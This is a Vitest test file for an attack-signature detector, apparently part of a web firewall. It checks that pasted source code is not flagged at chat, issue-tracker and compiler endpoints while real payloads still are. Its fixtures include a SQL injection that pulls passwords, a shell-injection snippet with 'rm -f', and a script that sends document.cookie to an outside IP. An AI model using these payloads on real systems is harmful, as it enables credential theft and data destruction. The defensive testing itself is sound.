import { expect, test } from 'vitest';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';

const SOURCE = [
  'function remove(order) {',
  "  const found = run('ls -1 `dirname ' + order.path + '`; rm -f x');",
  '  if (found.code !== 0) {',
  '    return alert(found.text);',
  '  }',
  '  return db.query("delete from orders where id = \'" + order.id + "\' or 1=1 -- gone");',
  '}',
].join('\n');
const BREAK_OUT = "1' union select password from users--";
const PAGE = '<script>fetch("//203.0.113.9/?"+document.cookie)</script>';

function sentTo(path: string, document: object): readonly string[] {
  const request = { method: 'POST', path, query: '', headers: {}, contentType: 'application/json' };
  return findSignatures({ ...request, body: JSON.stringify(document) }).matches.map(({ location }) => location);
}

test.each([
  ['/v1/chat/completions', (text: string) => ({ messages: [{ role: 'user', content: text }] })],
  ['/repos/acme/web/issues', (text: string) => ({ title: 'It fails', body: text })],
  ['/slack/events', (text: string) => ({ event: { type: 'message', text } })],
  ['/api/v1/chat.sendMessage', (text: string) => ({ message: { rid: 'a', msg: text } })],
  ['/api/v4/posts', (text: string) => ({ channel_id: 'a', message: text })],
  ['/api/v1/chat.postMessage', (text: string) => ({ text })],
  ['/v1.0/teams/a/channels/b/messages', (text: string) => ({ body: { contentType: 'text', content: text } })],
  ['/_matrix/client/v3/rooms/a/send/m.room.message/1', (text: string) => ({ msgtype: 'm.text', body: text })],
  ['/1/cards/abc/actions/comments', (text: string) => ({ text })],
  ['/language/translate/v2', (text: string) => ({ q: text, target: 'de' })],
  ['/v1/embeddings', (text: string) => ({ input: [text] })],
  ['/api/v2/tickets', (text: string) => ({ subject: 'It fails', description: text })],
])('where people write, lines of source are shown, and nothing else is excused: %s', (path, documentOf) => {
  expect(sentTo(path, documentOf(SOURCE))).toEqual([]);
  expect(sentTo(path, documentOf(BREAK_OUT))).toHaveLength(1);
  expect(sentTo(path, documentOf(`${SOURCE}\n${PAGE}\n`))).toHaveLength(1);
  expect(sentTo('/orders', documentOf(SOURCE))).not.toEqual([]);
});

test('a question and a paste hold them in forms as well', () => {
  const form = { method: 'POST', query: '', headers: {}, contentType: 'application/x-www-form-urlencoded' };
  const sent = (path: string, field: string, text: string): number =>
    findSignatures({ ...form, path, body: new URLSearchParams({ [field]: text }).toString() }).matches.length;
  for (const [path, field] of [
    ['/questions/ask/submit', 'post-text'],
    ['/w/api.php', 'text'],
    ['/api/api_post.php', 'api_paste_code'],
  ] as const) {
    expect(sent(path, field, SOURCE)).toBe(0);
    expect(sent(path, field, BREAK_OUT)).toBe(1);
    expect(sent('/orders', field, SOURCE)).toBe(1);
  }
});

test('the value of a key is a document where services fetch it', () => {
  const request = { method: 'PUT', query: '', headers: {}, contentType: 'text/plain' };
  expect(findSignatures({ ...request, path: '/v1/kv/acme/app.js', body: SOURCE }).matches).toEqual([]);
  expect(findSignatures({ ...request, path: '/notes/acme', body: SOURCE }).matches).toHaveLength(1);
});

test.each([
  ['/api/compiler/g132/compile', (text: string) => ({ source: text })],
  ['/compile.json', (text: string) => ({ code: text, codes: [{ file: 'a', code: text }] })],
  ['/submissions', (text: string) => ({ source_code: text, language_id: 71 })],
  ['/api/v2/piston/execute', (text: string) => ({ language: 'js', files: [{ content: text }] })],
  ['/api/format', (text: string) => ({ code: text })],
  ['/api/snippets/', (text: string) => ({ title: 'remove', code: text })],
  ['/mcp', (text: string) => ({ method: 'tools/call', params: { arguments: { path: 'a.js', content: text } } })],
  ['/v1/completions', (text: string) => ({ prompt: text, suffix: text })],
])('playgrounds, formatters and what fills a gap take source: %s', (path, documentOf) => {
  expect(sentTo(path, documentOf(SOURCE))).toEqual([]);
  expect(sentTo(path, documentOf(BREAK_OUT))).not.toEqual([]);
  expect(sentTo(path, { user: SOURCE })).toEqual(['body.user']);
  expect(sentTo('/orders', documentOf(SOURCE))).not.toEqual([]);
});
